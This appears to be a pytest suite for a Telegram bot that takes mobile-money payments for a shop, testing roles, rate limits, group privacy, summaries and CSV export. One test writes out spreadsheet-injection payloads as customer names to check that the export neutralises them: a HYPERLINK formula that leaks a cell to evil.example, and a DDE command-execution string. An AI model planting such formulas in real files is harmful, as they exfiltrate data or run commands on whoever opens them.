"""Roles, limits and what the shop owner sees, driven through the Telegram emulation."""

# ruff: noqa: RUF001  (the owner reads a range of days with an en dash, as print has it)

from __future__ import annotations

import csv
import io
import logging
from typing import Any

import pytest
from telegram.ext import CallbackContext

from bot.app import daily_summary_job
from bot.config import Settings
from bot.domain import OrderStatus
from tests.conftest import MERCHANT_CHAT, Shop, ShopWith, readable, start_shop, stop_shop, with_settings

ADMIN, STAFF, CUSTOMER, OTHER = 9001, 9002, 501, 502


STAFFED: dict[str, Any] = {"admin_ids": frozenset({ADMIN}), "staff_ids": frozenset({STAFF})}


@pytest.fixture
def shop_settings(settings: Settings) -> Settings:
    return with_settings(settings, **STAFFED)


@pytest.fixture
async def merchant_shop(shop_with: ShopWith) -> Shop:
    return await shop_with(**STAFFED)


async def _paid(shop: Shop, user_id: int, phone: str, amount: str = "500", chat_id: int | None = None) -> str:
    order = await shop.pay(shop.customer(user_id, chat_id=chat_id), phone=phone, amount=amount)
    shop.clock.advance(5)
    await shop.sweep()
    return order.id


# -- roles and access --------------------------------------------------------------------


async def test_staff_mode_lets_only_admins_and_staff_prompt(shop_settings, telegram, sandbox, clock) -> None:  # type: ignore[no-untyped-def]
    shop = await start_shop(with_settings(shop_settings, pay_access="staff"), telegram, sandbox, clock)
    try:
        stranger = shop.customer(CUSTOMER)
        await shop.send(stranger.text("/pay"))
        assert shop.last(CUSTOMER).text.startswith("Payments here are taken by the shop's staff.")
        await shop.send(stranger.text("0712345678"))  # no conversation was started
        assert shop.last(CUSTOMER).text.startswith("Payments here are taken by the shop's staff.")
        for cashier in (STAFF, ADMIN):
            await shop.send(shop.customer(cashier).text("/pay"))
            assert "Which phone" in shop.last(cashier).text
    finally:
        await stop_shop(shop)


async def test_admin_commands_answer_only_admins_and_reveal_nothing(merchant_shop: Shop) -> None:
    shop = merchant_shop
    customer, admin = shop.customer(CUSTOMER), shop.customer(ADMIN)
    await shop.send(customer.text("/frobnicate"))
    unknown = shop.last(CUSTOMER).text
    for command in ("/summary", "/summary week", "/export", "/export 2026-01-01"):
        await shop.send(customer.text(command))
        assert shop.last(CUSTOMER).text == unknown
    assert not any(m for m, _ in shop.telegram.calls if m == "sendDocument")
    await shop.send(admin.text("/summary"))
    assert shop.last(ADMIN).text == "Mon 24 Nov: no orders."
    await shop.send(customer.text("/help"))
    assert "/summary" not in shop.last(CUSTOMER).text
    await shop.send(admin.text("/help"))
    assert "/summary" in shop.last(ADMIN).text and "/export" in shop.last(ADMIN).text


async def test_admins_get_the_admin_command_menu(settings, telegram, sandbox, clock) -> None:  # type: ignore[no-untyped-def]
    shop = await start_shop(with_settings(settings, admin_ids=frozenset({ADMIN})), telegram, sandbox, clock)
    await shop.send(shop.customer(ADMIN).text("/start"))
    await stop_shop(shop)
    restarted = await start_shop(with_settings(settings, admin_ids=frozenset({ADMIN})), telegram, sandbox, clock)
    try:
        assert "summary" in [c["command"] for c in telegram.scoped_commands[ADMIN]]
        assert "summary" not in [c["command"] for c in telegram.commands]
    finally:
        await stop_shop(restarted)


# -- groups --------------------------------------------------------------------------------


async def test_a_payment_in_a_group(merchant_shop: Shop) -> None:
    shop, group = merchant_shop, -100555
    cashier, bystander = (
        shop.customer(STAFF, "Cashier", chat_id=group),
        shop.customer(OTHER, "Bystander", chat_id=group),
    )
    await shop.send(cashier.text("/pay@pesabot"))
    ask = shop.last(group)
    assert "Which phone" in ask.text and ask.reply_keyboard == []  # no contact button in groups
    force_reply = [p for m, p in shop.telegram.calls if m == "sendMessage"][-1]["reply_markup"]
    assert force_reply["force_reply"] is True and force_reply["selective"] is True
    await shop.send(bystander.text("0733000000"))  # someone else's answer is not the cashier's
    assert shop.last(group) is ask
    await shop.send(cashier.text("0712345678"))
    assert "07** ***678 (M-Pesa)" in shop.last(group).text and "254712345678" not in shop.last(group).text
    await shop.send(cashier.text("500"))
    summary = shop.last(group)
    await shop.send(bystander.press(summary, "Confirm"))
    assert shop.telegram.callback_answers[-1]["text"] == "This button belongs to someone else's payment."
    assert await shop.services.store.latest_chat_orders(group, 5) == []
    await shop.send(cashier.press(summary, "Confirm"))
    shop.clock.advance(5)
    await shop.sweep()
    # In a group the receipt names the payer by masked number only, not by name.
    assert "Confirmed. KES 500 paid to Mama Mboga from 07** ***678 on 24/11/25 at " in shop.last(group).text
    assert summary.text.startswith("📲 Check your phone")  # the receipt alone says paid
    assert not any("254712345678" in text for text in shop.texts(group))


async def test_commands_for_other_bots_in_a_group_are_left_alone(merchant_shop: Shop) -> None:
    shop, group = merchant_shop, -100555
    member = shop.customer(OTHER, chat_id=group)
    await shop.type(member, "/start@someotherbot", "/weather@someotherbot")
    assert shop.telegram.bot_messages(group) == []


# -- limits ----------------------------------------------------------------------------------


async def test_per_user_limit_holds_across_restarts_and_is_released(settings, telegram, sandbox, clock) -> None:  # type: ignore[no-untyped-def]
    shop = await start_shop(settings, telegram, sandbox, clock)
    customer = shop.customer(CUSTOMER)
    for n in range(5):
        await shop.pay(customer, phone=f"071234561{n}")
        clock.advance(10)
    await shop.send(customer.text("/pay"))
    refusal = shop.last(CUSTOMER).text
    assert refusal.startswith("You have asked for 5 payment prompts in the last 10 minutes")
    assert refusal.endswith("Please try again after 19:10.")  # the first of the five was at 19:00
    await stop_shop(shop)

    restarted = await start_shop(settings, telegram, sandbox, clock)
    try:
        await restarted.send(customer.text("/pay"))
        assert restarted.last(CUSTOMER).text == refusal
        clock.advance(600 - 50)
        await restarted.send(customer.text("/pay"))
        assert "Which phone" in restarted.last(CUSTOMER).text
    finally:
        await stop_shop(restarted)


async def test_staff_are_not_held_to_the_per_user_limit(merchant_shop: Shop) -> None:
    shop = merchant_shop
    cashier = shop.customer(STAFF)
    for n in range(6):
        await shop.pay(cashier, phone=f"072234561{n}")
    assert len(await shop.services.store.latest_chat_orders(STAFF, 10)) == 6


async def test_per_phone_limit_whoever_asks(merchant_shop: Shop) -> None:
    shop = merchant_shop
    for user_id in (CUSTOMER, OTHER, STAFF):  # wrong PIN each time, so no prompt stays open
        await shop.pay(shop.customer(user_id), phone="0712345672")
        shop.clock.advance(5)
        await shop.sweep()
    fourth = shop.customer(ADMIN)
    await shop.type(fourth, "/pay", "0712345672")
    told = shop.last(ADMIN).text
    assert told.startswith("07** ***672 has had 3 PIN prompts in the last hour, the most one phone may get, ")
    assert "after 20:00" in told
    shop.clock.advance(3600)  # the conversation timed out meanwhile: start again
    await shop.type(fourth, "/pay", "0712345672")
    assert shop.last(ADMIN).text.startswith("Phone: 0712 345 672 (M-Pesa).\nHow much?")  # the limit has passed


# -- what the merchant sees ------------------------------------------------------------------


async def test_merchant_line_names_who_asked(merchant_shop: Shop) -> None:
    shop = merchant_shop
    order_id = await _paid(shop, CUSTOMER, "0712345678")
    line = shop.last(MERCHANT_CHAT).text
    assert line.startswith(f"{(await shop.order(order_id)).receipt_code} · PAID · KES 500 · M-Pesa · 07** ***678 · ")
    assert line.endswith(f"order {readable(order_id)} · asked by Wanjiru ({CUSTOMER})")


async def test_orders_for_admins_cover_every_chat_and_others_their_own(merchant_shop: Shop) -> None:
    shop = merchant_shop
    mine = await _paid(shop, CUSTOMER, "0712345678")
    theirs = await _paid(shop, OTHER, "0722345678", amount="900")
    await shop.send(shop.customer(CUSTOMER).text("/orders"))
    text = shop.last(CUSTOMER).text
    mine, theirs = readable(mine), readable(theirs)  # as the bot writes them
    assert text.startswith("Orders (latest 10, this chat):") and mine in text and theirs not in text
    await shop.send(shop.customer(ADMIN).text("/orders today"))
    text = shop.last(ADMIN).text
    assert text.startswith("Orders (Mon 24 Nov, every chat):") and mine in text and theirs in text
    assert "KES 900 · 07** ***678 · ✅ paid" in text and "254722345678" not in text
    await shop.send(shop.customer(ADMIN).text("/orders 1"))
    assert theirs in shop.last(ADMIN).text and mine not in shop.last(ADMIN).text
    await shop.send(shop.customer(ADMIN).text("/orders yesterday-ish"))
    assert shop.last(ADMIN).text.startswith("Send /orders with a number of orders, or with today, yesterday,")


async def test_summary_totals_by_status_and_network(merchant_shop: Shop) -> None:
    shop = merchant_shop
    await _paid(shop, CUSTOMER, "0712345678", "500")
    await _paid(shop, OTHER, "0733345678", "300")
    await _paid(shop, STAFF, "0712345675", "1000")  # pays less: 900
    await _paid(shop, ADMIN, "0712345672", "200")  # wrong PIN
    await shop.send(shop.customer(ADMIN).text("/summary week"))
    assert shop.last(ADMIN).text.split("\n👤")[0].splitlines() == [  # the totals, then the cashiers
        "18–24 Nov: KES 1,700 received from 3 payments (M-Pesa 1,400 · Airtel Money 300); 1 not paid",
        "Still owed: KES 100",
        "⚠️ paid less than asked · M-Pesa: 1 for KES 1,000 asked, KES 900 received",
        "✅ paid · M-Pesa: 1 for KES 500 asked, KES 500 received",
        "✅ paid · Airtel Money: 1 for KES 300 asked, KES 300 received",
        "❌ failed · M-Pesa: 1 for KES 200 asked",
    ]


async def test_export_is_a_csv_checked_row_by_row(merchant_shop: Shop) -> None:
    shop = merchant_shop
    paid = await _paid(shop, CUSTOMER, "0712345678", "1,250")
    failed = await _paid(shop, OTHER, "0712345672", "80")
    await shop.send(shop.customer(ADMIN).text("/export 2025-11-24 2025-11-24"))
    document = shop.last(ADMIN)
    assert document.document is not None and document.document["filename"] == "orders-2025-11-24.csv"
    assert document.text == "Orders Mon 24 Nov: 2 rows (times in Africa/Nairobi, phones masked)."
    rows = list(csv.reader(io.StringIO(document.document["content"].decode("utf-8"))))
    assert rows[0] == [
        "order_id",
        "created_at",
        "status",
        "network",
        "phone",
        "amount",
        "paid_amount",
        "receipt_code",
        "payer_name",
        "paid_at",
        "chat_id",
        "requested_by",
        "reason",
        "next_order_id",
        "refund_state",
        "refund_amount",
        "refund_at",
        "refund_asked_by",
        "refund_approved_by",
        "cashier",
    ]
    first, second = rows[1], rows[2]
    code, payer = shop.ipay_payment(paid)
    assert first == [
        paid,
        "2025-11-24T19:00:00+03:00",
        "paid",
        "mpesa",
        "07** ***678",
        "1250",
        "1250",
        code,
        payer,
        "2025-11-24T19:00:03+03:00",
        str(CUSTOMER),
        f"Wanjiru ({CUSTOMER})",
        "",
        "",
        *[""] * 5,  # no refund
        "Wanjiru",
    ]
    assert second[:7] == [failed, "2025-11-24T19:00:05+03:00", "failed", "mpesa", "07** ***672", "80", ""]
    assert second[12] == "a wrong PIN was entered"
    await shop.send(shop.customer(ADMIN).text("/export 24/11/2025"))
    assert shop.last(ADMIN).text.startswith("Send /export with dates as YYYY-MM-DD")


@pytest.mark.parametrize("dates", ["0001-01-01 9999-12-31", "9999-12-31", "2025-11-24 9999-12-31"])
async def test_export_with_dates_out_of_range_gets_the_usual_message(
    merchant_shop: Shop, caplog: pytest.LogCaptureFixture, dates: str
) -> None:
    shop = merchant_shop
    await shop.send(shop.customer(ADMIN).text(f"/export {dates}"))
    assert shop.last(ADMIN).text.startswith("Send /export with dates as YYYY-MM-DD")
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]


async def test_export_neutralises_what_a_spreadsheet_would_run(
    merchant_shop: Shop, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Telegram names and iPay payer names are anyone's text: a cell a spreadsheet would read
    as a formula gets a leading apostrophe (OWASP's CSV injection rule); plain numbers stay numbers."""
    shop = merchant_shop
    people = [  # (user id, Telegram first name, payer name at iPay)
        (CUSTOMER, '=HYPERLINK("http://evil.example/?leak="&A1,"Receipt")', "@SUM(1+1)"),
        (OTHER, "+254 call me", "-2+3*cmd|' /C calc'!A0"),
        (503, "\tTabbed", "-500"),
        (504, "\rReturned", "Jane Doe"),
    ]
    for n, (user_id, first_name, payer) in enumerate(people):
        monkeypatch.setattr("bot.sandbox.ipay.PAYER_NAMES", ((payer, ""),))
        await shop.pay(shop.customer(user_id, first_name), phone=f"071234567{7 + n % 3}")
        shop.clock.advance(5)
        await shop.sweep()
    await shop.send(shop.customer(ADMIN).text("/export 2025-11-24"))
    document = shop.last(ADMIN).document
    assert document is not None
    rows = list(csv.reader(io.StringIO(document["content"].decode("utf-8"))))[1:]
    assert [row[2] for row in rows] == ["paid"] * 4
    assert [row[11] for row in rows] == [
        f'\'=HYPERLINK("http://evil.example/?leak="&A1,"Receipt") ({CUSTOMER})',
        f"'+254 call me ({OTHER})",
        "'\tTabbed (503)",
        "'\rReturned (504)",
    ]
    assert [row[8] for row in rows] == ["'@SUM(1+1)", "'-2+3*cmd|' /C calc'!A0", "-500", "Jane Doe"]


async def test_daily_summary_goes_to_the_merchant_and_skips_empty_days(merchant_shop: Shop) -> None:
    shop = merchant_shop
    assert shop.app.job_queue is not None
    trigger: Any = shop.app.job_queue.get_jobs_by_name("daily-summary")[0].trigger  # APScheduler's CronTrigger, untyped
    assert trigger.fields[5].expressions[0].first == 21  # hour
    context = CallbackContext(shop.app)
    await daily_summary_job(context)
    await shop.settle()
    assert shop.telegram.bot_messages(MERCHANT_CHAT) == []  # no orders today: nothing said
    await _paid(shop, CUSTOMER, "0712345678", "500")
    await daily_summary_job(context)
    await shop.settle()
    assert shop.last(MERCHANT_CHAT).text == (
        "📊 Mama Mboga · Mon 24 Nov: KES 500 received from 1 payment (M-Pesa 500)\n"
        "✅ paid · M-Pesa: 1 for KES 500 asked, KES 500 received"
    )
    assert (await shop.order((await shop.only_order(CUSTOMER)).id)).status is OrderStatus.PAID


# -- admin reports asked in a group ----------------------------------------------------------

GROUP = -100555


def _group_texts(shop: Shop) -> str:
    return "\n".join(m.text for m in shop.telegram.bot_messages(GROUP))


async def test_admin_reports_asked_in_a_group_go_to_the_admins_private_chat(merchant_shop: Shop) -> None:
    shop = merchant_shop
    private = await _paid(shop, CUSTOMER, "0712345678")
    in_group = await _paid(shop, OTHER, "0733345679", chat_id=GROUP)
    admin_in_group = shop.customer(ADMIN, "Boss", chat_id=GROUP)
    for command in ("/orders", "/orders@pesabot today", "/summary week", "/export 2025-11-24"):
        await shop.send(admin_in_group.text(command))
        assert shop.last(GROUP).text == (
            "I've sent that to you in our private chat: reports on every chat's orders stay out of groups."
        )
    orders, orders_today, _chart, summary, export = shop.telegram.bot_messages(ADMIN)
    assert orders.text.startswith("Orders (latest 10, every chat):")
    assert readable(private) in orders.text and readable(in_group) in orders.text
    assert orders_today.text.startswith("Orders (Mon 24 Nov, every chat):")
    assert summary.text.startswith("18–24 Nov: KES 1,000 received from 2 payments")
    assert export.document is not None and private in export.document["content"].decode()
    paid = await shop.order(private)
    group_sees = _group_texts(shop)
    for secret in (
        private,
        readable(private),
        paid.receipt_code,
        paid.payer_name,
        paid.masked_phone,
        str(CUSTOMER),
        "received from",
    ):
        assert secret and secret not in group_sees
    assert not [p for m, p in shop.telegram.calls if m == "sendDocument" and str(p["chat_id"]) == str(GROUP)]

    member = shop.customer(OTHER, chat_id=GROUP)  # a non-admin's /orders in a group: that group's orders, there
    await shop.send(member.text("/orders"))
    assert shop.last(GROUP).text.startswith("Orders (latest 10, this chat):")
    assert readable(in_group) in shop.last(GROUP).text and readable(private) not in shop.last(GROUP).text


async def test_summary_in_the_merchant_chat_is_answered_there(merchant_shop: Shop) -> None:
    """The merchant chat gets these very totals every evening: no reason to send them elsewhere."""
    shop = merchant_shop
    await _paid(shop, CUSTOMER, "0712345678")
    await shop.send(shop.customer(ADMIN, chat_id=MERCHANT_CHAT).text("/summary"))
    assert shop.last(MERCHANT_CHAT).text.startswith("Mon 24 Nov: KES 500 received from 1 payment (M-Pesa 500)\n")
    assert shop.telegram.bot_messages(ADMIN) == []


@pytest.mark.parametrize(
    ("command", "method"), [("/orders", "sendMessage"), ("/export", "sendDocument"), ("/summary", "sendMessage")]
)
async def test_an_admin_without_a_private_chat_is_told_in_one_line_and_the_group_sees_nothing(
    merchant_shop: Shop, caplog: pytest.LogCaptureFixture, command: str, method: str
) -> None:
    shop = merchant_shop
    private = await _paid(shop, CUSTOMER, "0712345678")
    shop.telegram.fail_next(method, 403, "Forbidden: bot can't initiate conversation with a user", chat_id=ADMIN)
    await shop.send(shop.customer(ADMIN, chat_id=GROUP).text(command))
    assert shop.texts(GROUP) == [
        "Reports on every chat's orders stay out of groups: open a private chat with @pesabot, send /start, "
        "then ask again."
    ]
    assert readable(private) not in _group_texts(shop) and shop.telegram.bot_messages(ADMIN) == []
    assert not [r for r in caplog.records if r.levelno >= logging.ERROR]
